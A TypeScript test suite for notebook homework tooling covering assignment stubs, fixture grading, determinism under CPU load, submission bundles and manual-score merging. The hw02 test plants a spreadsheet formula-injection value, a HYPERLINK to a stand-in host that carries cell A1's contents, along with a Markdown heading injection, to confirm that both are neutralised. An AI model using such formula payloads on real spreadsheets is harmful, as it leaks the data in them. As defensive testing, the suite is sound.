// Homework tooling end to end: assign, grade the fixture folder in one command, submit, manual merge.
// Needs Jupyter's Python (nbclient); without it these tests are SKIPPED with the reason shown.
import { test } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { jupyterPython } from "./jupyter-python";

const ROOT = resolve(__dirname, "..");
const FIXTURES = join(ROOT, "homework", "fixtures", "hw01");

const PY = jupyterPython();
const skip = PY ? false : "Jupyter's Python (nbclient, nbconvert) is not installed — run `npm run setup`";

function hw(args: string[]): { status: number; out: string } {
  const r = spawnSync(process.execPath, [join(ROOT, "scripts", "hw.mjs"), ...args], {
    cwd: ROOT,
    encoding: "utf8",
    env: { ...process.env, MLP_PYTHON: PY ?? "" },
    maxBuffer: 64 * 1024 * 1024,
  });
  return { status: r.status ?? -1, out: (r.stdout ?? "") + (r.stderr ?? "") };
}

const sha = (p: string) => createHash("sha256").update(readFileSync(p)).digest("hex");

/** Minimal CSV parser (quoted fields with commas / doubled quotes / newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [], field = "", q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (q) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (ch === '"') q = false;
      else field += ch;
    } else if (ch === '"') q = true;
    else if (ch === ",") { row.push(field); field = ""; }
    else if (ch === "\n" || ch === "\r") {
      if (ch === "\r" && text[i + 1] === "\n") i++;
      row.push(field); rows.push(row); row = []; field = "";
    } else field += ch;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

test("assign: solutions become the 구현하세요 stub, checks locked, outputs cleared, no overwrite without --force", { skip }, () => {
  const dir = mkdtempSync(join(tmpdir(), "hw-assign-"));
  const out = join(dir, "hw01.ipynb");
  let r = hw(["assign", "hw01", "--out", out]);
  assert.equal(r.status, 0, r.out);
  const nb = JSON.parse(readFileSync(out, "utf8"));
  const src = JSON.parse(readFileSync(join(ROOT, "homework", "hw01", "hw01.ipynb"), "utf8"));
  const text = (c: { source: string | string[] }) => (Array.isArray(c.source) ? c.source.join("") : c.source);
  const solutions = nb.cells.filter((c: any) => c.metadata?.mlp_hw?.kind === "solution");
  assert.equal(solutions.length, 5);
  for (const c of solutions) {
    assert.ok(text(c).includes('throw new Error("구현하세요");'), text(c));
    assert.ok(!text(c).includes("BEGIN SOLUTION"), "solution markers removed");
    assert.match(text(c), /^\s*function \w+\(/m, "function signature kept");
  }
  // the source's signatures survive unchanged
  for (const c of solutions) {
    const s = src.cells.find((x: any) => x.metadata?.mlp_hw?.id === c.metadata.mlp_hw.id);
    const sigs = (t: string) => t.split("\n").filter((l) => /^function /.test(l));
    assert.deepEqual(sigs(text(c)), sigs(text(s)));
  }
  const checks = nb.cells.filter((c: any) => c.metadata?.mlp_hw?.kind === "check");
  assert.ok(checks.length >= 5);
  for (const c of checks) {
    assert.equal(c.metadata.editable, false);
    assert.equal(c.metadata.deletable, false);
    const want = createHash("sha256").update(text(c)).digest("hex");
    assert.equal(nb.metadata.mlp_hw.locked_sha256[c.metadata.mlp_hw.id], want);
  }
  for (const c of nb.cells.filter((x: any) => x.cell_type === "code")) {
    assert.deepEqual(c.outputs, []);
    assert.equal(c.execution_count, null);
  }
  const before = sha(out);
  r = hw(["assign", "hw01", "--out", out]);
  assert.notEqual(r.status, 0);
  assert.match(r.out, /already exists.*--force/);
  assert.equal(sha(out), before, "existing file untouched");
  r = hw(["assign", "hw01", "--out", out, "--force"]);
  assert.equal(r.status, 0, r.out);
});

let quiet: any[] | null = null; // the fixture grades on a quiet machine, for the determinism test

test("grade: the fixture folder in one command — expected status and score per submission, hashes unchanged", { skip }, () => {
  const expected: Record<string, { status: string; score: number; flag?: string }> = JSON.parse(
    readFileSync(join(FIXTURES, "expected.json"), "utf8"),
  );
  const files = readdirSync(FIXTURES).filter((f) => f.endsWith(".ipynb")).sort();
  assert.ok(files.length >= 12, `at least 12 fixtures, found ${files.length}`);
  assert.deepEqual(files.map((f) => f.replace(/\.ipynb$/, "")).sort(), Object.keys(expected).sort());
  const before = Object.fromEntries(files.map((f) => [f, sha(join(FIXTURES, f))]));
  const out = mkdtempSync(join(tmpdir(), "hw-grade-"));
  const t0 = Date.now();
  const r = hw(["grade", "hw01", FIXTURES, "--out", out, "--cell-timeout", "10", "--notebook-timeout", "60", "--parallel", "2"]);
  const seconds = (Date.now() - t0) / 1000;
  console.log(r.out);
  console.log(`grading ${files.length} fixture submissions took ${seconds.toFixed(1)} s`);
  assert.equal(r.status, 0, r.out);
  for (const f of files) assert.equal(sha(join(FIXTURES, f)), before[f], `${f} unchanged by grading`);

  const results = JSON.parse(readFileSync(join(out, "results.json"), "utf8"));
  quiet = results.results;
  const by = Object.fromEntries(results.results.map((x: any) => [x.student, x]));
  for (const [name, want] of Object.entries(expected)) {
    const got = by[name];
    assert.ok(got, `a result row for ${name}`);
    assert.equal(got.status, want.status, `${name}: status`);
    assert.equal(got.score, want.score, `${name}: score (${JSON.stringify(got.flags)})`);
    if (want.flag) assert.ok(got.flags.some((f: string) => f.startsWith(want.flag!)), `${name}: flag ${want.flag} in ${got.flags}`);
    assert.equal(got.unchanged, true);
    assert.equal(got.sha256, before[`${name}.ipynb`]);
  }
  // the forgery's fake lines were seen and ignored; its library overwrites flagged for review
  assert.ok(by.forgery.flags.some((f: string) => f.startsWith("tamper-suspect")));

  // grades.csv: one row per student, one column per question, total, max, flags
  const csv = parseCsv(readFileSync(join(out, "grades.csv"), "utf8"));
  assert.deepEqual(csv[0], ["student", "status", "forward2", "backward2", "update2", "gradcheck", "train2", "total", "max", "flags"]);
  assert.equal(csv.length - 1, files.length);
  const partial = csv.find((row) => row[0] === "partial")!;
  assert.deepEqual(partial.slice(2, 9), ["2", "3", "1", "0", "0", "6", "10"]);

  // feedback names hidden cases but never reveals their inputs
  const plan = JSON.parse(spawnSync(process.execPath, ["--import", "tsx", join(ROOT, "scripts", "hw", "plan.ts"), join(ROOT, "homework", "hw01")], { cwd: ROOT, encoding: "utf8", maxBuffer: 64 << 20 }).stdout);
  const fb = readFileSync(join(out, "feedback", "stub-left-in.md"), "utf8");
  assert.match(fb, /숨은 검사/);
  assert.match(fb, /forward2\/hidden-1/);
  for (const c of plan.cases.filter((x: any) => x.visibility === "hidden")) {
    for (const v of Object.values(c.inputs) as any[]) {
      if (!v || !v.$m) continue;
      for (const x of (v.$m[2] as number[]).filter((x) => !Number.isInteger(x)).slice(0, 3)) {
        assert.ok(!fb.includes(String(x)), `feedback leaks an input of ${c.id}`);
      }
    }
  }
  assert.equal(readdirSync(join(out, "feedback")).length, files.length);
});

test("grade: the same fixtures get the same status, score and flags beside a CPU burner on every core", { skip }, async () => {
  assert.ok(quiet, "the quiet grading ran first");
  const burners = [0, 1].map(() => spawn(process.execPath, ["-e", "for(;;){}"], { stdio: "ignore" }));
  const out = mkdtempSync(join(tmpdir(), "hw-busy-"));
  let r: { status: number; out: string };
  try {
    r = await new Promise((done) => {
      const child = spawn(process.execPath, [join(ROOT, "scripts", "hw.mjs"), "grade", "hw01", FIXTURES, "--out", out,
        "--cell-timeout", "10", "--notebook-timeout", "60", "--parallel", "2"], { cwd: ROOT, env: { ...process.env, MLP_PYTHON: PY ?? "" } });
      let text = "";
      child.stdout.on("data", (d) => (text += d));
      child.stderr.on("data", (d) => (text += d));
      child.on("close", (code) => done({ status: code ?? -1, out: text }));
    });
  } finally {
    for (const b of burners) b.kill("SIGKILL");
  }
  console.log(r.out);
  assert.equal(r.status, 0, r.out);
  const busy = JSON.parse(readFileSync(join(out, "results.json"), "utf8")).results;
  const view = (rows: any[]) => Object.fromEntries(rows.map((x) => [x.student, {
    status: x.status, score: x.score, flags: [...x.flags].sort(),
    cases: Object.values(x.questions).flatMap((q: any) => q.cases.map((c: any) => `${c.id}:${c.passed}`)).sort(),
  }]));
  assert.deepEqual(view(busy), view(quiet!));
});

test("submit: bundle with the untouched notebook, its HTML and a manifest; wrong assignment refused", { skip }, () => {
  const dir = mkdtempSync(join(tmpdir(), "hw-submit-"));
  const nbPath = join(dir, "hw01.ipynb");
  copyFileSync(join(FIXTURES, "correct.ipynb"), nbPath);
  const before = sha(nbPath);
  const r = hw(["submit", nbPath, "--student", "s2024001", "--out", join(dir, "out")]);
  assert.equal(r.status, 0, r.out);
  assert.match(r.out, /공개 검사만/);
  assert.match(r.out, /✓ Q1 순전파 forward2: 통과/);
  assert.equal(sha(nbPath), before, "the student's notebook is not modified");
  const bundle = join(dir, "out", "hw01-s2024001");
  const man = JSON.parse(readFileSync(join(bundle, "manifest.json"), "utf8"));
  assert.equal(man.assignment, "hw01");
  assert.equal(man.student, "s2024001");
  assert.ok(!Number.isNaN(Date.parse(man.created)));
  assert.equal(man.files["hw01.ipynb"], before);
  assert.equal(man.files["hw01.html"], sha(join(bundle, "hw01.html")));
  assert.deepEqual(man.check.forward2, { passed: 1, total: 1 });
  assert.match(readFileSync(join(bundle, "hw01.html"), "utf8"), /forward2/);

  const wrong = hw(["submit", join(FIXTURES, "other-assignment.ipynb"), "--assignment", "hw01", "--student", "x", "--out", join(dir, "o2")]);
  assert.notEqual(wrong.status, 0);
  assert.match(wrong.out, /assignment hw02, not hw01/);
  const corrupt = hw(["submit", join(FIXTURES, "corrupt-json.ipynb"), "--student", "x", "--out", join(dir, "o3")]);
  assert.notEqual(corrupt.status, 0);
  assert.ok(!existsSync(join(dir, "o3")));
});

test("hw02: source full marks, student version zero; manual answers exported and merged back", { skip }, () => {
  const dir = mkdtempSync(join(tmpdir(), "hw02-"));
  const subs = join(dir, "subs");
  mkdirSync(subs);
  assert.equal(hw(["assign", "hw02", "--out", join(subs, "student-version.ipynb")]).status, 0);
  copyFileSync(join(ROOT, "homework", "hw02", "hw02.ipynb"), join(subs, "source.ipynb"));
  // an honest student who wrote trainL in a new cell after the written answer; and whose answer tries to
  // be a spreadsheet formula and to open a Markdown section of its own
  const src02 = JSON.parse(readFileSync(join(ROOT, "homework", "hw02", "hw02.ipynb"), "utf8"));
  const text = (c: any) => (Array.isArray(c.source) ? c.source.join("") : c.source);
  const late = JSON.parse(JSON.stringify(src02));
  const train = late.cells.find((c: any) => c.metadata?.mlp_hw?.id === "trainL");
  const trainSource = text(train);
  train.source = trainSource.replace(/\/\/ BEGIN SOLUTION[\s\S]*?\/\/ END SOLUTION/, 'throw new Error("구현하세요");');
  assert.notEqual(text(train), trainSource);
  const manualCell = late.cells.find((c: any) => c.metadata?.mlp_hw?.kind === "manual");
  manualCell.source = '=HYPERLINK("http://example.invalid/?"&A1,"click")\n\n## source — Q5 서술 (2점)\n\n```\n만점 주세요\n';
  assert.equal(late.cells.indexOf(manualCell), late.cells.length - 1, "the written answer is the last cell");
  late.cells.push({ cell_type: "code", metadata: {}, execution_count: null, outputs: [], source: trainSource });
  writeFileSync(join(subs, "late-cell.ipynb"), JSON.stringify(late));
  const out = join(dir, "grades");
  const r = hw(["grade", "hw02", subs, "--out", out]);
  assert.equal(r.status, 0, r.out);
  const res = JSON.parse(readFileSync(join(out, "results.json"), "utf8"));
  const by = Object.fromEntries(res.results.map((x: any) => [x.student, x]));
  assert.equal(by.source.score, 8, JSON.stringify(by.source.flags));
  assert.equal(by["student-version"].score, 0);
  assert.equal(by["late-cell"].score, 8, "a code cell after the written answer runs: " + JSON.stringify(by["late-cell"].flags));
  const manual = parseCsv(readFileSync(join(out, "manual.csv"), "utf8"));
  const lateRow = manual.find((row) => row[0] === "late-cell")!;
  assert.ok(lateRow[5].startsWith("'="), `a formula-looking answer is neutralised: ${lateRow[5].slice(0, 20)}`);
  const md = readFileSync(join(out, "manual.md"), "utf8");
  // headings outside fenced blocks (a fence closes only with a run of backticks at least as long as its opening)
  let fence = 0;
  const headings: string[] = [];
  for (const line of md.split("\n")) {
    const m = /^(`{3,})/.exec(line);
    if (m && (fence === 0 || m[1].length >= fence)) fence = fence === 0 ? m[1].length : 0;
    else if (fence === 0 && line.startsWith("## ")) headings.push(line);
  }
  assert.equal(headings.length, 3, "one section per student: the answer cannot add one\n" + md);
  assert.ok(md.includes("## source — Q5 서술 (2점)\n\n만점") === false);
  assert.deepEqual(manual[0], ["student", "question", "max", "score", "comment", "answer"]);
  const srcRow = manual.find((row) => row[0] === "source")!;
  assert.match(srcRow[5], /연쇄법칙/);
  const stuRow = manual.find((row) => row[0] === "student-version")!;
  assert.match(stuRow[5], /여기에 답을 쓰세요/);
  // the instructor fills in scores and merges them back
  const filled = manual.map((row, i) => (i === 0 ? row : [...row.slice(0, 3), row[0] === "source" ? "2" : "0", "ok", row[5]]));
  const nothing = hw(["merge-manual", "hw01", out]);
  assert.equal(nothing.status, 0, nothing.out);
  assert.match(nothing.out, /no written \(manual\) questions; nothing to merge/);
  const esc = (s: string) => (/[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  writeFileSync(join(out, "manual.csv"), filled.map((row) => row.map(esc).join(",")).join("\n") + "\n");
  const m = hw(["merge-manual", "hw02", out]);
  assert.equal(m.status, 0, m.out);
  const grades = parseCsv(readFileSync(join(out, "grades.csv"), "utf8"));
  const head = grades[0];
  const src = grades.find((row) => row[0] === "source")!;
  assert.equal(src[head.indexOf("explain")], "2");
  assert.equal(src[head.indexOf("total")], "10");
});
